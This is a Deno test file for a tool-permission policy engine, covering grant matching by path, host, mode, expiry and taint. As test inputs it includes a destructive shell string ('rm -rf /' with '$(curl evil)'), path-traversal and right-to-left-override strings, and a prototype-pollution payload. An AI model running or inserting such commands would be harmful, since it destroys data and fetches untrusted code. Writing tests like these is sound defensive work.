/**
 * docs/grants.md's tools (#which-constraints-each-tool-takes) and #matching: every tool's row, and
 * the edge cases of matching, through the real `decide`.
 */
import {
  canonicalArguments,
  decide,
  type GrantSet,
  type Outcome,
  type ToolRequest,
} from "../../mod/policy/mod.ts";
import fc from "fast-check";
import { assert, assertEquals } from "../assert.ts";
import { at, grantSet, NOW } from "./helpers.ts";
import { grant } from "../kit/mod.ts";

/** `allowed by g`, `ask by g`, `denied_by_grant by g`, or the bare reason. */
function summary(outcome: Outcome): string {
  if (outcome.kind === "allowed") return `allowed by ${outcome.decision.grant}`;
  if (outcome.kind === "ask") return `ask by ${outcome.ask.grant}`;
  const { reason, grant } = outcome.denial;
  return grant === null ? reason : `${reason} by ${grant}`;
}

function run(request: ToolRequest, grants: GrantSet, options = at()): string {
  return summary(decide(request, { grants, ...options }));
}

const read = (path: string): ToolRequest => ({ tool: "read_file", arguments: { path } });
const write = (path: string): ToolRequest => ({
  tool: "write_file",
  arguments: { path, content: "x" },
});

// --- The tools table: what each tool takes, and when its constraints cover it. ---

Deno.test("read_file is covered when its path is inside one of the grant's paths", () => {
  const grants = grantSet({ g: { tool: "read_file", paths: ["/a", "/b/c"] } });
  assertEquals(run(read("/b/c/d"), grants), "allowed by g");
  assertEquals(run(read("/b/d"), grants), "no_grant");
});

Deno.test("write_file is covered inside a grant path but not at the grant path itself", () => {
  const grants = grantSet({ g: { tool: "write_file", paths: ["/s"] } });
  assertEquals(run(write("/s/a.txt"), grants), "allowed by g");
  assertEquals(run(write("/s"), grants), "no_grant");
});

Deno.test("write_file to /s/out with paths /s and /s/out is covered through /s", () => {
  const grants = grantSet({ g: { tool: "write_file", paths: ["/s", "/s/out"] } });
  const outcome = decide(write("/s/out"), { grants, ...at() });
  assert(outcome.kind === "allowed", summary(outcome));
  assertEquals(outcome.decision.matchedPath, "/s");
  const deeper = decide(write("/s/out/a"), { grants, ...at() });
  assert(deeper.kind === "allowed");
  assertEquals(deeper.decision.matchedPath, "/s/out");
});

Deno.test("shell without cwd is covered only by a grant with no paths", () => {
  const grants = grantSet({
    anywhere: { tool: "shell" },
    scratch: { tool: "shell", paths: ["/home/kyle/scratch"] },
  });
  const outcome = decide({ tool: "shell", arguments: { command: "ls" } }, { grants, ...at() });
  assert(outcome.kind === "allowed");
  assertEquals(outcome.decision.grant, "anywhere");
  assertEquals(outcome.decision.matchedPath, null);
  const nullCwd = { tool: "shell", arguments: { command: "ls", cwd: null } };
  assertEquals(run(nullCwd, grants), "allowed by anywhere", '"cwd": null means absent');
});

Deno.test("shell with cwd is covered only by a grant whose paths hold the cwd", () => {
  const grants = grantSet({
    anywhere: { tool: "shell" },
    scratch: { tool: "shell", paths: ["/home/kyle/scratch"] },
  });
  const inside = { tool: "shell", arguments: { command: "make", cwd: "/home/kyle/scratch/b" } };
  const outcome = decide(inside, { grants, ...at() });
  assert(outcome.kind === "allowed");
  assertEquals(outcome.decision.grant, "scratch");
  assertEquals(outcome.decision.matchedPath, "/home/kyle/scratch");
  assertEquals(outcome.decision.grantPaths, ["/home/kyle/scratch"]);
  const outside = { tool: "shell", arguments: { command: "make", cwd: "/home/kyle" } };
  assertEquals(run(outside, grants), "no_grant", "a grant with no paths does not cover a cwd");
});

Deno.test("http_fetch is covered when the URL's host matches one of the grant's hosts", () => {
  const grants = grantSet({ g: { tool: "http_fetch", hosts: ["api.example.com", "*.cdn.net"] } });
  const outcome = decide({ tool: "http_fetch", arguments: { url: "https://x.cdn.net/a" } }, {
    grants,
    ...at(),
  });
  assert(outcome.kind === "allowed");
  assertEquals(outcome.decision.hosts, ["api.example.com", "*.cdn.net"]);
  assertEquals(outcome.decision.matchedPath, null);
  assertEquals(
    run({ tool: "http_fetch", arguments: { url: "https://example.com/" } }, grants),
    "no_grant",
  );
});

Deno.test("arguments are parsed strictly: unknown, missing or mistyped fields are invalid_arguments", () => {
  const grants = grantSet({
    r: { tool: "read_file", paths: ["/a"] },
    w: { tool: "write_file", paths: ["/a"] },
    s: { tool: "shell" },
    h: { tool: "http_fetch", hosts: ["example.com"] },
  });
  const bad: ToolRequest[] = [
    { tool: "read_file", arguments: { path: "/a/b", extra: 1 } },
    { tool: "read_file", arguments: {} },
    { tool: "read_file", arguments: { path: 7 } },
    { tool: "read_file", arguments: "/a/b" },
    { tool: "read_file", arguments: null },
    { tool: "read_file", arguments: ["/a/b"] },
    { tool: "write_file", arguments: { path: "/a/b" } },
    { tool: "write_file", arguments: { path: "/a/b", content: 1 } },
    { tool: "shell", arguments: { cmd: "ls" } },
    { tool: "shell", arguments: { command: "ls", cwd: "relative" } },
    { tool: "shell", arguments: { command: "ls", cwd: 3 } },
    { tool: "http_fetch", arguments: { url: "http://example.com/" } },
    { tool: "http_fetch", arguments: { url: "https://example.com/", method: "POST" } },
  ];
  for (const request of bad) {
    assertEquals(run(request, grants), "invalid_arguments", JSON.stringify(request));
  }
});

Deno.test("invalid arguments are denied before matching, even with no grant for the tool", () => {
  assertEquals(run(read("../x"), grantSet({})), "invalid_arguments");
});

Deno.test("command and content are not inspected", () => {
  const grants = grantSet({ s: { tool: "shell" }, w: { tool: "write_file", paths: ["/a"] } });
  const shell = { tool: "shell", arguments: { command: "rm -rf / \u0000 $(curl evil)" } };
  assertEquals(run(shell, grants), "allowed by s");
  const content = { tool: "write_file", arguments: { path: "/a/b", content: "\u202e../..\n" } };
  assertEquals(run(content, grants), "allowed by w");
});

Deno.test("a tool that is neither built in nor granted is no_grant, its arguments unparsed", () => {
  const grants = grantSet({ r: { tool: "read_file", paths: ["/a"] } });
  assertEquals(run({ tool: "delete_everything", arguments: "not an object" }, grants), "no_grant");
});

Deno.test("an app tool's arguments are opaque: its grant covers any input", () => {
  const grants = grantSet({ spend: { tool: "example.spend", mode: "ask" } });
  const outcome = decide({ tool: "example.spend", arguments: { amount: 5, to: "/x/../y" } }, {
    grants,
    ...at(),
  });
  assert(outcome.kind === "ask", summary(outcome));
  assertEquals(outcome.ask.args, { kind: "app", input: { amount: 5, to: "/x/../y" } });
  assertEquals(canonicalArguments(outcome.ask), '{"amount":5,"to":"/x/../y"}');
  assertEquals(run({ tool: "example.echo", arguments: {} }, grants), "no_grant");
});

// --- Matching: the edge cases. ---

Deno.test("mode precedence among three matching grants: deny, then ask, then auto", () => {
  const specs = {
    "a-auto": { tool: "read_file", mode: "auto", paths: ["/d"] },
    "b-ask": { tool: "read_file", mode: "ask", paths: ["/d"] },
    "c-deny": { tool: "read_file", mode: "deny", paths: ["/d"] },
  } as const;
  assertEquals(run(read("/d/x"), grantSet(specs)), "denied_by_grant by c-deny");
  const { "c-deny": _deny, ...noDeny } = specs;
  assertEquals(run(read("/d/x"), grantSet(noDeny)), "ask by b-ask");
  const { "b-ask": _ask, ...onlyAuto } = noDeny;
  assertEquals(run(read("/d/x"), grantSet(onlyAuto)), "allowed by a-auto");
});

Deno.test("denied_by_grant carries the deny grant and its file's hash; other denials carry none", async () => {
  const spec = { tool: "read_file", mode: "deny", paths: ["/d"] } as const;
  const grants = grantSet({ no: spec });
  const outcome = decide(read("/d/x"), { grants, ...at() });
  assert(outcome.kind === "denied");
  assertEquals(outcome.denial.grant, "no");
  // The hash is recomputed here with Web Crypto from the bytes the helper wrote.
  assertEquals(outcome.denial.grant_sha256, await sha256Hex(grant(spec)));
  const none = decide(read("/e"), { grants, ...at() });
  assert(none.kind === "denied");
  assertEquals(none.denial, { reason: "no_grant", grant: null, grant_sha256: null });
});

Deno.test("with one candidate expired and another too tainted, the reason is grant_expired", () => {
  const grants = grantSet({
    old: { tool: "read_file", paths: ["/d"], expires: "2026-01-01T00:00:00Z" },
    low: { tool: "read_file", paths: ["/d"], max_taint: "private" },
  });
  assertEquals(run(read("/d/x"), grants, at("secret")), "grant_expired");
});

Deno.test("with a candidate ruled out only by taint, the reason is taint_too_high", () => {
  const grants = grantSet({
    old: {
      tool: "read_file",
      paths: ["/d"],
      max_taint: "private",
      expires: "2026-01-01T00:00:00Z",
    },
    low: { tool: "read_file", paths: ["/d"], max_taint: "private" },
  });
  assertEquals(run(read("/d/x"), grants, at("secret")), "taint_too_high");
  assertEquals(run(read("/e/x"), grants, at("secret")), "no_grant", "not covered: no_grant");
});

Deno.test("an expired candidate that would not cover the call gives no_grant, not grant_expired", () => {
  const grants = grantSet({
    old: { tool: "read_file", paths: ["/d"], expires: "2026-01-01T00:00:00Z" },
  });
  assertEquals(run(read("/e/x"), grants), "no_grant");
  assertEquals(run(read("/d/x"), grants), "grant_expired");
});

Deno.test("a grant has expired exactly at its expires, and applies a millisecond before", () => {
  const grants = grantSet({
    g: { tool: "read_file", paths: ["/d"], expires: "2026-10-01T12:00:00.000Z" },
  });
  assertEquals(run(read("/d/x"), grants, { ...at(), now: NOW }), "grant_expired");
  const before = new Date(NOW.getTime() - 1);
  assertEquals(run(read("/d/x"), grants, { ...at(), now: before }), "allowed by g");
});

Deno.test("a grant applies at its max_taint and not above it", () => {
  const grants = grantSet({ g: { tool: "read_file", paths: ["/d"], max_taint: "private" } });
  assertEquals(run(read("/d/x"), grants, at("private")), "allowed by g");
  assertEquals(run(read("/d/x"), grants, at("secret")), "taint_too_high");
  const publicOnly = grantSet({ p: { tool: "read_file", paths: ["/d"], max_taint: "public" } });
  assertEquals(run(read("/d/x"), publicOnly, at("private")), "taint_too_high");
});

Deno.test("within a mode, the grant with the longest matched path wins", () => {
  const grants = grantSet({
    "a-wide": { tool: "read_file", paths: ["/home"] },
    "z-narrow": { tool: "read_file", paths: ["/elsewhere", "/home/kyle/notes"] },
  });
  const outcome = decide(read("/home/kyle/notes/a"), { grants, ...at() });
  assert(outcome.kind === "allowed");
  assertEquals(outcome.decision.grant, "z-narrow");
  assertEquals(outcome.decision.matchedPath, "/home/kyle/notes");
});

Deno.test("a longer path in a less restrictive mode does not beat the more restrictive mode", () => {
  const grants = grantSet({
    wide: { tool: "read_file", mode: "ask", paths: ["/home"] },
    narrow: { tool: "read_file", mode: "auto", paths: ["/home/kyle"] },
  });
  assertEquals(run(read("/home/kyle/a"), grants), "ask by wide");
});

Deno.test("ties go to the lowest grant id in byte order", () => {
  const grants = grantSet({
    "b-two": { tool: "read_file", paths: ["/d"] },
    "a-one": { tool: "read_file", paths: ["/d"] },
    "a1": { tool: "read_file", paths: ["/d"] },
  });
  assertEquals(run(read("/d/x"), grants), "allowed by a-one");
  const fetches = grantSet({
    "z": { tool: "http_fetch", hosts: ["www.example.com"] },
    "m": { tool: "http_fetch", hosts: ["*.example.com"] },
  });
  const fetch = { tool: "http_fetch", arguments: { url: "https://www.example.com/" } };
  assertEquals(run(fetch, fetches), "allowed by m", "no matched path: all tie, lowest id wins");
});

Deno.test("a-home and b-keys: a read of keys is labelled secret whichever id sorts first", () => {
  for (const [home, keys] of [["a-home", "b-keys"], ["z-home", "b-keys"]]) {
    const grants = grantSet({
      [home]: { tool: "read_file", paths: ["/home/kyle"], result_class: "private" },
      [keys]: { tool: "read_file", paths: ["/home/kyle/keys"], result_class: "secret" },
    });
    const outcome = decide(read("/home/kyle/keys/id"), { grants, ...at() });
    assert(outcome.kind === "allowed");
    assertEquals(outcome.decision.grant, keys, "the longest path wins the mount");
    assertEquals(outcome.decision.label, { resultClass: "secret", untrusted: false });
    const notes = decide(read("/home/kyle/notes"), { grants, ...at() });
    assert(notes.kind === "allowed");
    assertEquals(notes.decision.label.resultClass, "private");
  }
});

Deno.test("an untrusted grant among the matches sets the flag when the winner says trusted", () => {
  const grants = grantSet({
    wins: { tool: "read_file", paths: ["/d/e"], untrusted: false },
    loses: { tool: "read_file", paths: ["/d"], untrusted: true, result_class: "public" },
  });
  const outcome = decide(read("/d/e/f"), { grants, ...at() });
  assert(outcome.kind === "allowed");
  assertEquals(outcome.decision.grant, "wins");
  assertEquals(outcome.decision.label, { resultClass: "private", untrusted: true });
});

Deno.test("grants ruled out do not count toward the label", () => {
  const grants = grantSet({
    wins: { tool: "read_file", paths: ["/d"] },
    gone: {
      tool: "read_file",
      paths: ["/d"],
      result_class: "secret",
      untrusted: true,
      expires: "2026-01-01T00:00:00Z",
    },
  });
  const outcome = decide(read("/d/f"), { grants, ...at() });
  assert(outcome.kind === "allowed");
  assertEquals(outcome.decision.label, { resultClass: "private", untrusted: false });
});

Deno.test("an expired deny grant no longer denies", () => {
  const grants = grantSet({
    allow: { tool: "read_file", paths: ["/d"] },
    forbid: { tool: "read_file", mode: "deny", paths: ["/d"], expires: "2026-09-01T00:00:00Z" },
  });
  assertEquals(run(read("/d/x"), grants), "allowed by allow");
  const earlier = { ...at(), now: new Date("2026-08-01T00:00:00Z") };
  assertEquals(run(read("/d/x"), grants, earlier), "denied_by_grant by forbid");
});

async function sha256Hex(text: string): Promise<string> {
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  return [...new Uint8Array(digest)].map((b) => b.toString(16).padStart(2, "0")).join("");
}

/** The input an allowed app-tool call was decided with. */
function decidedInput(input: unknown): unknown {
  const grants = grantSet({ echo: { tool: "example.echo" } });
  const outcome = decide({ tool: "example.echo", arguments: input }, { grants, ...at() });
  assert(outcome.kind === "allowed", summary(outcome));
  assert(outcome.decision.args.kind === "app");
  return outcome.decision.args.input;
}

function assertDeepFrozen(value: unknown): void {
  if (typeof value !== "object" || value === null) return;
  assert(Object.isFrozen(value), `not frozen: ${JSON.stringify(value)}`);
  for (const inner of Object.values(value)) assertDeepFrozen(inner);
}

Deno.test("an app tool's input is decided as a deep-frozen copy equal to its structuredClone, for any JSON value (fast-check prints the seed on failure)", () => {
  fc.assert(
    fc.property(fc.jsonValue(), (input) => {
      const decided = decidedInput(input);
      assertEquals(decided, structuredClone(input));
      assertDeepFrozen(decided);
      if (typeof input === "object" && input !== null) assert(decided !== input, "a copy");
    }),
    { verbose: true },
  );
});

Deno.test("an input with values JSON has not (a Date, a Map, a hole, a shared object, a null prototype) is copied as structuredClone copies it", () => {
  const shared = { a: 1 };
  const holey: unknown[] = [1];
  holey[2] = 3;
  const bare = Object.assign(Object.create(null), { x: [1, 2] });
  const proto = JSON.parse('{"__proto__": {"polluted": true}, "y": 1}');
  const withExtra = Object.assign([1, 2], { extra: true });
  for (
    const input of [
      { when: new Date(0) },
      { map: new Map([["k", 1]]) },
      holey,
      { first: shared, second: shared },
      bare,
      proto,
      withExtra,
    ]
  ) {
    const decided = decidedInput(input);
    assertEquals(decided, structuredClone(input));
    assertDeepFrozen(decided);
  }
  const decided = decidedInput({ first: shared, second: shared }) as Record<string, unknown>;
  assert(decided.first === decided.second, "the sharing is kept, as structuredClone keeps it");
  assertEquals(Object.getPrototypeOf(decidedInput(bare)), Object.prototype);
  assertEquals(({} as Record<string, unknown>).polluted, undefined);
});
